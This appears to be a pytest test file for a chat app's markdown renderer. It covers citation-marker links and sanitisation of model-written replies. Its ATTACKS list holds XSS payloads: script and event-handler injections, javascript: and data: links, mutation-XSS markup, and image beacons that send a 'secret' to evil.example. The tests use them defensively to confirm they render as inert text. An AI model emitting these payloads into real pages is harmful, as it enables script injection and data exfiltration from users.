"""A reply's text on the page: readable, linked to its sources, and harmless whatever a model writes."""

import re
from urllib.parse import urlsplit

import pytest
from selectolax.lexbor import LexborHTMLParser

from chat.markdown import ALLOWED_TAGS, Marker, render_markdown
from tests.corpora import corpus

MARKERS = [Marker(1, "/chat/citations/7/", 'Lifecycle "stages" <x>'), Marker(2, "/chat/citations/8/", "Owners")]

LINK_1 = (
    '\u202f<sup><a class="marker" href="/chat/citations/7/" data-dialog="panel" '
    'aria-label="Source 1: Lifecycle &quot;stages&quot; &lt;x&gt;" rel="noopener noreferrer nofollow">1</a></sup>'
)


def test_a_marker_becomes_a_link_to_its_own_source():
    assert render_markdown("It says how far. [1]", MARKERS) == f"<p>It says how far.{LINK_1}</p>\n"


@pytest.mark.parametrize("text", ["It says how far [1].", "It says how far. [1]", "It says how far[1]."])
def test_a_marker_stands_behind_its_sentence_at_its_last_word(text):
    assert render_markdown(text, MARKERS) == f"<p>It says how far.{LINK_1}</p>\n"


def test_a_number_without_a_source_stays_text():
    assert render_markdown("In [2024] and [3], not [1].", [MARKERS[1]]) == "<p>In [2024] and [3], not [1].</p>\n"


def test_markers_stand_side_by_side_and_repeat():
    shown = render_markdown("Both [2][1], again [2]", MARKERS)

    assert re.findall(r'href="([^"]+)"', shown) == ["/chat/citations/8/", "/chat/citations/7/", "/chat/citations/8/"]


def test_the_text_alone_does_not_run_into_the_numbers_of_its_markers():
    """As it is copied from the page, or read out."""
    shown = render_markdown("Which record do you mean? [1] [2]", MARKERS)

    assert re.sub(r"<[^>]+>", "", shown).split() == ["Which", "record", "do", "you", "mean?", "1", "2"]


def test_code_keeps_its_brackets():
    assert render_markdown("`rows[1]`", MARKERS) == "<p><code>rows[1]</code></p>\n"


def test_a_text_cannot_lead_a_marker_elsewhere():
    shown = render_markdown("It is so [1].\n\n[1]: https://evil.example/", MARKERS)

    assert "evil.example/" in shown
    assert 'href="https://evil' not in shown
    assert shown.count('href="/chat/citations/7/"') == 2


def test_headings_stay_below_those_of_the_page():
    assert render_markdown("# One\n\n###### Six") == "<h3>One</h3>\n<h6>Six</h6>\n"


def test_lists_tables_and_emphasis_are_shown():
    shown = render_markdown("1. **a**\n2. *b*\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n~~gone~~")

    assert "<ol>" in shown
    assert "<strong>a</strong>" in shown
    assert "<td>2</td>" in shown
    assert "<s>gone</s>" in shown


def test_a_link_is_followed_by_nobody_and_says_nothing_about_us():
    assert render_markdown("[docs](https://docs.example/a)") == (
        '<p><a href="https://docs.example/a" rel="noopener noreferrer nofollow">docs</a></p>\n'
    )


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/?q=secret)",
    "![][1]\n\n[1]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](&#x6A;avascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<form action="https://evil.example"><button>Log in</button></form>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| ![](https://evil.example/x.png) |",
    "<!-- --><script>alert(1)</script>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    '<div class="marker" data-dialog="panel">',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\x00<scr\x00ipt>alert(1)</script>",
]

ATTRIBUTES = {"a": {"href", "title", "class", "data-dialog", "aria-label", "rel"}, "ol": {"start"}}


def assert_harmless(shown):
    """What a browser would make of ``shown`` holds only tags and attributes that can do nothing."""
    for element in LexborHTMLParser(shown).body.traverse(include_text=False):
        if element.tag in ("body", "tbody"):
            continue
        assert element.tag in ALLOWED_TAGS, element.html
        assert set(element.attributes) <= ATTRIBUTES.get(element.tag, set()), element.html
        scheme = urlsplit(element.attributes.get("href") or "").scheme
        assert scheme in ("", "http", "https"), element.html


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_arrives_as_text(text):
    assert_harmless(render_markdown(text, MARKERS))
    assert_harmless(render_markdown(f"Before [1]\n\n{text}\n\nafter {text}", MARKERS))


def test_attacks_collected_elsewhere_arrive_as_text():
    texts = [path.read_text("utf-8", "replace") for path in sorted(corpus("attacks").rglob("*")) if path.is_file()]

    for text in texts:
        assert_harmless(render_markdown(text[:200_000], MARKERS))


def test_a_label_cannot_leave_its_attribute():
    hostile = Marker(1, "/chat/citations/7/", '"><script>alert(1)</script>')

    assert_harmless(render_markdown("x [1]", [hostile]))


def test_a_very_long_text_is_still_rendered():
    assert len(render_markdown("word [1] " * 20_000, MARKERS)) > 1_000_000
